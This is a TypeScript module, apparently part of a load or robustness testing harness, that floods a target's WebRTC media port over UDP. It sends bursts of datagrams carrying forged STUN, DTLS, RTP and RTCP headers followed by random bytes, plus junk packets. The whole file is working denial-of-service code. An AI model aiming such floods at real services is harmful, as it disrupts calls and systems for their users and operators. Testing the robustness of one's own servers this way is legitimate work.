import { randomBytes } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { type Attack, type Battle, goesOn, nextTurn } from './attack.ts';

/** Datagrams that are sent before the next turn. */
const AT_ONCE = 50;

/** What each protocol of the media port is recognised by (RFC 7983), with nonsense behind it. */
const DATAGRAMS: readonly (readonly [what: string, datagram: Buffer])[] = [
  ['STUN', Buffer.concat([Buffer.from('000100302112a442', 'hex'), randomBytes(12 + 48)])],
  [
    'DTLS',
    Buffer.concat([
      Buffer.from('16fefd00000000000000000064', 'hex'),
      Buffer.from('01', 'hex'),
      randomBytes(99),
    ]),
  ],
  ['RTP', Buffer.concat([Buffer.from('806f', 'hex'), randomBytes(170)])],
  ['RTCP', Buffer.concat([Buffer.from('80c8', 'hex'), randomBytes(60)])],
  ['junk', Buffer.concat([Buffer.from('ff', 'hex'), randomBytes(1_199)])],
];

async function flood(battle: Battle): Promise<void> {
  const { target, mediaPort, tally } = battle;
  const socket = createSocket('udp4');
  socket.on('error', () => undefined);
  await new Promise<void>((resolve) => socket.connect(mediaPort, target.host, resolve));
  for (let turn = 0; goesOn(battle); turn++) {
    const [what, datagram] = DATAGRAMS[turn % DATAGRAMS.length] ?? ['', Buffer.alloc(0)];
    for (let count = 0; count < AT_ONCE; count++) socket.send(datagram);
    tally.sent(what, AT_ONCE);
    await nextTurn();
  }
  socket.close();
}

export const MEDIA_FLOODS: readonly Attack[] = [
  {
    name: 'media-flood',
    what: 'STUN, DTLS, RTP and RTCP of nobody, and junk, to the port of sound without a pause',
    run: flood,
  },
];
